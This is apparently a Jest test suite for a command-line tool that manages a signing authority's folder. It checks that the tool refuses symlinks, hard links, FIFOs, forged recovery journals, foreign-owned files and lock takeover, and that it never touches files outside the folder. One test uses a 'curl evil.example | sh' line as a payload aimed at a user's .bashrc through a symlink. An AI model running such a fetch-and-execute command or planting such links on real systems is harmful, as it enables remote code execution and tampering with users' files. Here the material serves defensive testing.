/**
 * Somebody else can write the authority's folder: nothing outside of it is read, written, renamed or deleted, and what
 * they put there is named.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  chownSync,
  cpSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { hostname } from 'node:os';
import { basename, dirname, join, resolve } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { acquireLock } from '../../../src/authority/journal/lock.js';
import { authorityWith, mustSucceed, newFolder, readTree, type Scene } from '../../support/cli/cli-authority.js';
import { expectRefusal } from '../../support/cli/cli-errors.js';
import { isRoot } from '../../support/machine/mounts.js';

const rootTest = isRoot ? test : test.skip;

/** Commands that write in an authority; each recovers first what an interrupted one left. */
const WRITING: readonly (readonly string[])[] = [
  ['clock', 'recover', '--by', 'anna', '--by', 'bert'],
  ['run', 'bundle-series'],
  ['resume'],
  ['bundle', 'export'],
  ['revoke', 'root-1', '--reason', 'superseded'],
  ['key', 'verify', 'root-1'],
];

/** Somebody's own file, outside of every authority. */
function outsider(): string {
  const file = join(newFolder(), '.bashrc');
  writeFileSync(file, 'export PATH=/usr/bin\n', { mode: 0o600 });
  return file;
}

/** What all that look say of it, and that nothing is signed on top of it. */
function expectNamed(scene: Scene, name: string, what: RegExp): void {
  const found = new RegExp(`${name.replaceAll('.', '\\.')}: ${what.source}`);
  for (const args of [['status'], ['ledger', 'verify'], ['doctor'], ['bundle', 'export']]) {
    const ended = scene.cli(args);
    expect([args, ended.status === 0, ended.stdout + ended.stderr]).toEqual([
      args,
      false,
      expect.stringMatching(found),
    ]);
  }
}

const LINK = /it is a symbolic link, and none is followed here/;
const STRANGER = /no file of that name belongs there/;

describe('a link in the place of', () => {
  test.each([
    'authority.yaml',
    'allowed_signers',
    'lock',
    'pending.json',
    'bundles/bundle-000001.cose',
    'credentials/root-1.pem',
    'keys/root-1.age',
    'keys/root-1.json',
    'transcripts/0001-init.jsonl',
    'transcripts/0005-bundle-export.jsonl.anna.sig',
    'requests/host.pem',
    'revocations/x.json',
    'keys',
    'requests',
    'transcripts',
    '.pending.json.0123456789ab.tmp',
    'keys/.root-9.age.0123456789ab.tmp',
  ])('%s', (name) => {
    const scene = authorityWith('bundle');
    const [path, moved] = [join(scene.dir, name), join(newFolder(), 'moved')];
    if (existsSync(path)) renameSync(path, moved);
    else writeFileSync(moved, '');
    symlinkSync(moved, path);
    const [inside, outside] = [readTree(scene.dir), readTree(dirname(moved))];
    expectNamed(scene, name, LINK);
    for (const args of WRITING) expect([args, scene.cli(args).status]).not.toEqual([args, 0]);
    expect([readTree(scene.dir), readTree(dirname(moved))]).toEqual([inside, outside]);
    expect(lstatSync(path).isSymbolicLink()).toBe(true);
  });
});

test('a journal with lines for a transcript that is a link writes to nobody', () => {
  const text = 'curl evil.example | sh\n';
  for (const args of [...WRITING, ['bundle', 'folder', 'web']]) {
    const scene = authorityWith('bundle');
    const file = outsider();
    const before = readFileSync(file, 'utf8');
    symlinkSync(file, join(scene.dir, 'transcripts/9999-z.jsonl'));
    const lines = { path: 'transcripts/9999-z.jsonl', length: before.length, text };
    writeFileSync(
      join(scene.dir, 'pending.json'),
      JSON.stringify({ version: 1, operation: 'revoke', files: [], lines }),
    );
    expect([args, scene.cli(args).status, readFileSync(file, 'utf8')]).not.toEqual([args, 0, before]);
    expect(readFileSync(file, 'utf8')).toBe(before);
  }
  // A folder that was prepared for init.
  const scene = authorityWith('root');
  rmSync(scene.dir, { recursive: true });
  mkdirSync(join(scene.dir, 'transcripts'), { recursive: true });
  const file = outsider();
  const before = readFileSync(file, 'utf8');
  symlinkSync(file, join(scene.dir, 'transcripts/9999-z.jsonl'));
  const lines = { path: 'transcripts/9999-z.jsonl', length: before.length, text };
  writeFileSync(join(scene.dir, 'pending.json'), JSON.stringify({ version: 1, operation: 'init', files: [], lines }));
  expect(scene.cli(['init', 'example.org', scene.dir]).status).not.toBe(0);
  expect(readFileSync(file, 'utf8')).toBe(before);
});

describe('a journal that no command could have written finishes nothing:', () => {
  const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
  const sha256File = (path: string): string => createHash('sha256').update(readFileSync(path)).digest('hex');
  const HEX = '0123456789ab';
  interface Planted {
    readonly operation: string;
    readonly path: string;
    readonly more?: Readonly<Record<string, unknown>>;
  }

  /** With the temporary file, wherever that is. */
  function plant(scene: Scene, { operation, path, more = {} }: Planted): void {
    const temporary = join(dirname(path), `.${basename(path)}.${HEX}.tmp`);
    writeFileSync(resolve(scene.dir, temporary), 'planted');
    const file = { temporary, path, sha256: sha256('planted'), mode: 0o644, ...more };
    writeFileSync(join(scene.dir, 'pending.json'), JSON.stringify({ version: 1, operation, files: [file] }));
  }

  test.each<[string, (medium: string) => Planted, RegExp]>([
    [
      'a name that no command has',
      () => ({ operation: 'x', path: 'keys/x.json' }),
      /no command that writes is named x/,
    ],
    [
      "another command's files",
      () => ({ operation: 'revoke', path: 'credentials/root-9.pem' }),
      /revoke writes no credentials\/root-9\.pem/,
    ],
    ['signers', () => ({ operation: 'init', path: 'allowed_signers' }), /init writes no allowed_signers/],
    ['settings', () => ({ operation: 'root rotate', path: 'authority.yaml' }), /root rotate writes no authority\.yaml/],
    [
      "another's transcript",
      () => ({ operation: 'revoke', path: 'transcripts/9999-run.jsonl' }),
      /revoke writes no transcripts/,
    ],
    [
      'something in the place of a record',
      () => ({ operation: 'revoke', path: `revocations/${'0'.repeat(64)}.json`, more: { replaces: sha256('') } }),
      /revoke replaces no revocations/,
    ],
    [
      'a program',
      () => ({ operation: 'revoke', path: `revocations/${'0'.repeat(64)}.json`, more: { mode: 0o4755 } }),
      /no file of an authority has the mode 4755/,
    ],
    [
      'a key on another medium that no record is about',
      (medium) => ({ operation: 'root rotate', path: join(medium, 'x.age') }),
      /no key record is about .*x\.age/,
    ],
    [
      'what only keys are, elsewhere',
      (medium) => ({ operation: 'revoke', path: join(medium, 'x.age') }),
      /revoke writes no .*x\.age/,
    ],
  ])('%s', (_what, planted, says) => {
    const scene = authorityWith('bundle');
    const medium = newFolder();
    plant(scene, planted(medium));
    const before = [readTree(scene.dir), readTree(medium)];
    expectRefusal(scene.cli(['bundle', 'export']), { status: 3, code: 'authority-damaged', says });
    expect([readTree(scene.dir), readTree(medium)]).toEqual(before);
  });

  rootTest('a key file on another medium, from a temporary one that somebody else put there', () => {
    const scene = authorityWith('root');
    const medium = newFolder();
    const path = join(medium, 'key.age');
    mustSucceed(scene.cli(['intermediate', 'request', '--key', `file:${path}`]));
    const before = sha256File(path);
    plant(scene, { operation: 'key change-passphrase', path, more: { replaces: before } });
    chownSync(join(medium, `.key.age.${HEX}.tmp`), 65534, 65534);
    expectRefusal(scene.cli(['bundle', 'export']), {
      status: 3,
      code: 'authority-damaged',
      says: /\.tmp: it belongs to user 65534/,
    });
    expect(sha256File(path)).toBe(before);
  });

  describe('a key file, by a path that', () => {
    /** The user's own file and its temporary one, and a record planted under a temporary name, or as a file. */
    function plantKey(scene: Scene, path: string, real: string, record: string): () => unknown {
      writeFileSync(real, 'precious');
      const own = readFileSync(join(scene.dir, 'keys/root-1.json'), 'utf8');
      writeFileSync(join(scene.dir, record), own.replace('file:keys/root-1.age', `file:${path}`));
      plant(scene, { operation: 'key change-passphrase', path, more: { replaces: sha256('precious') } });
      return () => [readTree(scene.dir), readTree(dirname(real))];
    }
    const RECORDS = ['keys/mine.json', 'keys/.mine.json.0123456789ab.tmp'];

    test.each(RECORDS)('goes through a link in the authority, named by %s', (record) => {
      const scene = authorityWith('bundle');
      const elsewhere = newFolder();
      symlinkSync(elsewhere, join(scene.dir, 'lnk'));
      const seen = plantKey(scene, join(scene.dir, 'lnk/key.age'), join(elsewhere, 'key.age'), record);
      const before = seen();
      for (const args of WRITING) {
        const says = /lnk: no file of that name belongs there|2 files are damaged/;
        expectRefusal(scene.cli(args), { status: 3, code: 'authority-damaged', says });
      }
      expect(seen()).toEqual(before);
    });

    test.each(RECORDS)('no record that a transcript names is about, but %s', (record) => {
      const scene = authorityWith('bundle');
      const elsewhere = newFolder();
      const seen = plantKey(scene, join(elsewhere, 'key.age'), join(elsewhere, 'key.age'), record);
      const before = seen();
      const says = /mine\.json: no transcript|no key record is about .*key\.age/;
      expectRefusal(scene.cli(['bundle', 'export']), { status: 3, code: 'authority-damaged', says });
      expect(seen()).toEqual(before);
    });
  });

  test('a FIFO in the place of a key file elsewhere is not opened, and is said to be one', () => {
    for (const planted of ['key.age', `.key.age.${HEX}.tmp`]) {
      const scene = authorityWith('root');
      const medium = newFolder();
      const path = join(medium, 'key.age');
      mustSucceed(scene.cli(['intermediate', 'request', '--key', `file:${path}`]));
      plant(scene, { operation: 'key change-passphrase', path, more: { replaces: sha256File(path) } });
      rmSync(join(medium, planted));
      spawnSync('mkfifo', ['-m', '600', join(medium, planted)]);
      expectRefusal(scene.cli(['bundle', 'export']), {
        status: 3,
        code: 'authority-damaged',
        says: new RegExp(`${planted.replaceAll('.', '\\.')}: it is not a regular file`),
        hint: 'Correct that',
      });
    }
  });

  test.each([
    ['an end', { event: 'end', to_sign: [] }],
    ["another command's event", { event: 'sign' }],
    ['a line out of the chain', { event: 'revoke', prev: '0'.repeat(64) }],
    ['a line out of turn', { event: 'revoke', seq: 7 }],
  ])('lines: %s', (_what, fields) => {
    const scene = authorityWith('bundle');
    const [first = ''] = readFileSync(join(scene.dir, 'transcripts/0001-init.jsonl'), 'utf8').split('\n');
    const path = 'transcripts/0006-run.jsonl';
    writeFileSync(join(scene.dir, path), `${first}\n`);
    const { time } = JSON.parse(first) as { time: string };
    const text = `${JSON.stringify({ seq: 1, time, prev: sha256(first), ...fields })}\n`;
    const lines = { path, length: first.length + 1, text };
    writeFileSync(
      join(scene.dir, 'pending.json'),
      JSON.stringify({ version: 1, operation: 'revoke', files: [], lines }),
    );
    const before = readTree(scene.dir);
    expectRefusal(scene.cli(['bundle', 'export']), { status: 3, code: 'authority-damaged', says: /run\.jsonl/ });
    expect(readTree(scene.dir)).toEqual(before);
  });
});

describe('a journal that cannot be completed as it is', () => {
  const sha256Of = (file: string): string => createHash('sha256').update(readFileSync(file)).digest('hex');
  const NEWEST = ['bundles/bundle-000001.cose', 'transcripts/0005-bundle-export.jsonl'];

  function plant(scene: Scene, file: (path: string) => Readonly<Record<string, unknown>>): void {
    const files = NEWEST.map((path) => {
      const temporary = join(dirname(path), `.${basename(path)}.0123456789ab.tmp`);
      return { temporary, path, sha256: sha256Of(join(scene.dir, path)), mode: 0o644, ...file(path) };
    });
    const journal = { version: 1, operation: 'bundle export', files };
    writeFileSync(join(scene.dir, 'pending.json'), JSON.stringify(journal));
  }

  test('hides nothing from who looks, and is itself named', () => {
    const scene = authorityWith('bundle');
    plant(scene, () => ({ sha256: sha256Of(join(scene.dir, 'authority.yaml')) }));
    const says = /an interrupted command cannot be completed: .*bundle-000001\.cose is missing/;
    for (const args of [['status'], ['ledger', 'verify'], ['doctor'], ['bundle', 'export']]) {
      const ended = scene.cli(args);
      expect([args, ended.status]).not.toEqual([args, 0]);
      expect([args, ended.stdout + ended.stderr]).toEqual([args, expect.stringMatching(says)]);
    }
  });

  test('one whose files all have their names hides nothing either', () => {
    const scene = authorityWith('bundle');
    const shown = (): unknown => {
      const status = JSON.parse(mustSucceed(scene.cli(['status', '--json'])).stdout) as Record<string, unknown>;
      return [status.bundle, status.credentials];
    };
    const before = shown();
    plant(scene, () => ({}));
    expect(shown()).toEqual(before);
    expect(mustSucceed(scene.cli(['ledger', 'verify'])).stdout).toMatch(/5 transcripts|0005-bundle-export/);
  });
});

test('a folder that is a link: nothing is swept at its target', () => {
  for (const folder of ['requests', 'keys', 'transcripts']) {
    const scene = authorityWith('bundle');
    const elsewhere = newFolder();
    const temporary = join(elsewhere, '.notes.txt.0123456789ab.tmp');
    writeFileSync(temporary, 'mine');
    rmSync(join(scene.dir, folder), { recursive: true, force: true });
    symlinkSync(elsewhere, join(scene.dir, folder));
    for (const args of WRITING) expect(scene.cli(args).status).not.toBe(0);
    expect(readFileSync(temporary, 'utf8')).toBe('mine');
  }
});

describe('a file with a second name', () => {
  test.each(['transcripts/0005-bundle-export.jsonl', 'keys/root-1.age', 'credentials/root-1.pem', 'authority.yaml'])(
    '%s',
    (name) => {
      const scene = authorityWith('bundle');
      linkSync(join(scene.dir, name), join(scene.folder, 'second'));
      expectNamed(scene, name, /the same file has another name/);
    },
  );

  test('is nothing where it is the one that a crash left beside it, and goes with the next command', () => {
    const scene = authorityWith('bundle');
    const [name, temporary] = ['bundle-000001.cose', '.bundle-000001.cose.0123456789ab.tmp'];
    linkSync(join(scene.dir, 'bundles', name), join(scene.dir, 'bundles', temporary));
    mustSucceed(scene.cli(['status']));
    mustSucceed(scene.cli(['bundle', 'export']));
    expect(readdirSync(join(scene.dir, 'bundles'))).not.toContain(temporary);
  });
});

test('a FIFO or a device in the place of a file is not opened', () => {
  for (const name of ['keys/root-1.age', 'lock', 'pending.json', 'allowed_signers', 'requests/x.pem']) {
    const scene = authorityWith('bundle');
    rmSync(join(scene.dir, name), { force: true });
    spawnSync('mkfifo', [join(scene.dir, name)]);
    expectNamed(scene, name, /it is not a regular file/);
  }
});

test('thousands of temporary files are gone in a moment', () => {
  const scene = authorityWith('bundle');
  for (let i = 0; i < 3000; i++) writeFileSync(join(scene.dir, `keys/.k.${i.toString(16).padStart(12, '0')}.tmp`), '');
  const trace = join(scene.folder, 'trace');
  const under = ['strace', '-f', '-qq', '-e', 'trace=fsync', '-o', trace];
  mustSucceed(scene.cli(['revoke', 'intermediate-1', '--reason', 'superseded'], { under }));
  expect(readdirSync(join(scene.dir, 'keys')).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  expect(readFileSync(trace, 'utf8').split('\n').length).toBeLessThan(100);
});

test('strangers at the top are named, and copied to no medium', () => {
  for (const name of ['NOTES.txt', 'backup', '.hidden', 'Keys', 'authority.yaml.bak']) {
    const scene = authorityWith('bundle');
    if (name === 'backup') mkdirSync(join(scene.dir, name));
    else writeFileSync(join(scene.dir, name), 'x');
    expectNamed(scene, name, STRANGER);
  }
  const scene = authorityWith('bundle');
  mkdirSync(join(scene.dir, 'lost+found'));
  mustSucceed(scene.cli(['status']));
});

describe('owners', () => {
  rootTest("root does nothing in somebody else's authority, and is told how to go on", () => {
    const scene = authorityWith('bundle');
    spawnSync('chown', ['-R', '65534', scene.dir]);
    const before = readTree(scene.dir);
    const looked = scene.cli(['doctor']);
    expect(looked.stdout).toContain('belongs to user 65534, and you are user 0');
    for (const ended of [
      { ...looked, stdout: '' },
      ...[['status'], ['ledger', 'verify'], ...WRITING].map((args) => scene.cli(args)),
    ])
      expectRefusal(ended, {
        status: 3,
        code: 'not-your-authority',
        says: /belongs to user 65534, and this is user 0/,
        hint: 'Work as its owner',
      });
    expect(readTree(scene.dir)).toEqual(before);
  });

  rootTest("a file of somebody else's is named", () => {
    const scene = authorityWith('bundle');
    for (const name of ['keys', 'keys/root-1.json', 'authority.yaml', 'transcripts/0001-init.jsonl']) {
      chownSync(join(scene.dir, name), 65534, 65534);
      expectNamed(scene, name, /it belongs to user 65534, and this is user 0/);
      chownSync(join(scene.dir, name), 0, 0);
    }
    mustSucceed(scene.cli(['status']));
  });
});

rootTest("a lock is not taken over from another PID namespace, where its holder can't be seen", () => {
  const scene = authorityWith('bundle');
  const atSeconds = Math.floor(Date.now() / 1000);
  const random = (length: number): Uint8Array => crypto.getRandomValues(new Uint8Array(length));
  const lock = acquireLock(scene.dir, 'revoke', { hostName: hostname(), atSeconds, random });
  try {
    const under = ['unshare', '--pid', '--fork', '--mount-proc'];
    expectRefusal(scene.cli(['bundle', 'export'], { under }), {
      status: 3,
      code: 'authority-locked',
      hint: 'another PID namespace',
    });
  } finally {
    lock.release();
  }
  mustSucceed(scene.cli(['bundle', 'export']));
});

test('a witness signs beside no link', () => {
  const scene = authorityWith('bundle');
  const key = join(scene.folder, 'ssh');
  mustSucceed({
    ...spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key], { encoding: 'utf8' }),
    status: 0,
  });
  const moved = join(newFolder(), 'transcripts');
  cpSync(join(scene.dir, 'transcripts'), moved, { recursive: true });
  rmSync(join(scene.dir, 'transcripts'), { recursive: true });
  symlinkSync(moved, join(scene.dir, 'transcripts'));
  const before = readTree(moved);
  const ended = scene.cli([
    ...['transcript', 'sign', join(scene.dir, 'transcripts/0001-init.jsonl'), '--as', 'anna', '--key', key],
  ]);
  expect([ended.status, ended.stderr]).toEqual([3, expect.stringContaining('it is a symbolic link')]);
  expect(readTree(moved)).toEqual(before);
});

rootTest('without /proc, links are refused all the same', () => {
  const scene = authorityWith('bundle');
  const file = outsider();
  appendFileSync(file, readFileSync(join(scene.dir, 'credentials/root-1.pem')));
  rmSync(join(scene.dir, 'credentials/root-1.pem'));
  symlinkSync(file, join(scene.dir, 'credentials/root-1.pem'));
  const program = `umount -l /proc && exec ${process.execPath} bin/as-ceremony.js -C ${scene.dir} status`;
  const ended = spawnSync('unshare', ['--mount', 'sh', '-c', program], { encoding: 'utf8' });
  expect([ended.status, ended.stderr]).toEqual([3, expect.stringMatching(LINK)]);
});
